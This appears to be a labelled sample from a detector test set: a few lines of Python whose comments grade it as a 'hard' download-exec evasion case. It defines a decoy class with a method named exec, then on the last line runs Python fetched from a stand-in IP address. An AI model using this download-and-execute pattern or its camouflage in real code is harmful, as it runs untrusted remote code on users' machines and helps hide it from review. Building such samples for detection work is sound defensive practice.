# evasion: a class with a method named exec, so that the name looks like the program's own
# grade: hard; does: download-exec
import urllib.request
class Runner:
    def exec(self, code):
        print(code)
exec(urllib.request.urlopen("http://203.0.113.9/p.py").read())
